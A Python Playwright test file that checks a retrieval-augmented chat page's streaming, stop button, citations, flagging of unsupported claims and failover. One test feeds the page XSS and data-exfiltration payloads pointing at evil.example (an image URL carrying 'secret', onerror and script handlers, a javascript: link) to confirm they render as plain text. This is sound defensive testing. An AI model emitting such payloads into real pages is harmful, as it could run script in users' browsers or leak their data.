"""What a reader sees while a chat model writes, when it is stopped, when it errs and when it fails."""

from __future__ import annotations

from collections.abc import Callable
from typing import Protocol

from playwright.sync_api import Page, expect

from rag.testing.server import Pause, Reply, chunk, fails, says, streamed

BUDGET = "How much is the harbour budget?"
HELD = "The council voted to hold the harbour budget at £4.25 million <<The council voted to hold>>. "


class Visit(Protocol):
    page: Page

    def ask(self, question: str) -> None: ...
    def answered(self, number: int = 1) -> str: ...
    def text(self, selector: str) -> str: ...


class Model(Protocol):
    def next(self, *replies: Reply) -> None: ...
    @property
    def disconnected(self) -> Waits: ...


class Waits(Protocol):
    def wait(self, timeout: float) -> bool: ...


Opens = Callable[..., Visit]


def _slow(*pieces: str) -> Reply:
    # It goes on writing, so that a stop is seen at the next word.
    waiting = [part for _ in range(300) for part in (Pause(seconds=0.2), chunk("and so on, "))]
    return streamed(chunk("", role="assistant"), *(chunk(piece) for piece in pieces), *waiting)


def test_a_citation_can_be_opened_while_the_answer_is_written(visit: Opens, generative: str, model: Model) -> None:
    model.next(_slow(HELD, "The mayor "))
    there = visit(generative)
    there.ask(BUDGET)
    there.page.click(
        "#live [aria-busy='true'] a.cite, #live[aria-busy='true'] a.cite, .exchange[aria-busy='true'] a.cite"
    )
    expect(there.page.locator("#reader mark.cited")).to_contain_text("£4.25 million")
    expect(there.page.locator(".exchange")).to_have_attribute("aria-busy", "true")
    there.page.click("#stop")


def test_stop_keeps_what_was_written_and_ends_the_model(visit: Opens, generative: str, model: Model) -> None:
    model.next(
        _slow(HELD, "The mayor said that it was a pause <<Mayor Ellen Marsh>>. "), says("Standalone?"), says(HELD)
    )
    there = visit(generative)
    there.ask(BUDGET)
    expect(there.page.locator("#live .answer")).to_contain_text("£4.25 million")
    expect(there.page.locator("#ask")).to_be_hidden()
    there.page.click("#stop")
    assert "Stopped" in there.answered()
    assert model.disconnected.wait(5)
    assert "£4.25 million" in there.text("#live .answer")
    expect(there.page.locator("#stop")).to_be_hidden()
    there.ask(BUDGET)
    assert "Stopped" not in there.answered(2)


def test_stop_hangs_up_on_a_model_that_keeps_silent(visit: Opens, generative: str, model: Model) -> None:
    silence = [Pause(seconds=2) for _ in range(20)]
    model.next(streamed(chunk(HELD), *(part for pause in silence for part in (pause, ": still there\n\n"))))
    there = visit(generative)
    there.ask(BUDGET)
    expect(there.page.locator("#live .answer")).to_contain_text("£4.25 million")
    there.page.click("#stop")
    assert "Stopped" in there.answered()
    assert model.disconnected.wait(10)


def test_an_unsupported_claim_is_marked_and_says_what_is_missing(visit: Opens, generative: str, model: Model) -> None:
    model.next(says(HELD, "It was cut to £3.75 million on Friday <<The council voted to hold>>. "))
    there = visit(generative)
    there.ask(BUDGET)
    assert "Partly answered" in there.answered()
    flaw = there.page.locator("#live .flaw")
    expect(flaw).to_have_count(1)
    assert "upported" in flaw.locator("summary").inner_text()
    expect(there.page.locator("#live .claim")).to_contain_text("£3.75 million")
    expect(flaw.locator(".why")).to_be_hidden()
    flaw.locator("summary").focus()
    there.page.keyboard.press("Enter")
    expect(flaw.locator(".why")).to_contain_text("3.75")


def test_what_a_model_writes_is_only_text(visit: Opens, generative: str, model: Model) -> None:
    hostile = (
        "![x](https://evil.example/p.png?d=secret) <img src=https://evil.example/q.png onerror=window.hacked=1> "
        "<script>window.hacked=2</script> [here](javascript:window.hacked=3) <a href=https://evil.example/>go</a> "
        "{{ 7*7 }} ${window.hacked=4} https://evil.example/ "
    )
    model.next(says(HELD, *hostile))
    there = visit(generative)
    there.ask(BUDGET)
    there.answered()
    answer = there.page.locator("#live .answer")
    expect(answer).to_contain_text("${window.hacked=4} https://evil.example/")
    expect(answer.locator("img, script")).to_have_count(0)
    links = answer.locator("a").evaluate_all("links => links.map(link => link.getAttribute('href'))")
    assert links
    assert all(link.startswith("#read/") for link in links)


def test_a_model_that_fails_is_replaced_and_the_reader_told(visit: Opens, generative: str, model: Model) -> None:
    model.next(fails(503, "overloaded with sk-secret"))
    there = visit(generative)
    there.ask(BUDGET)
    shown = there.answered()
    assert "£4.25 million" in shown
    assert "overloaded" in there.text("#live .note")
    assert "sk-secret" not in shown
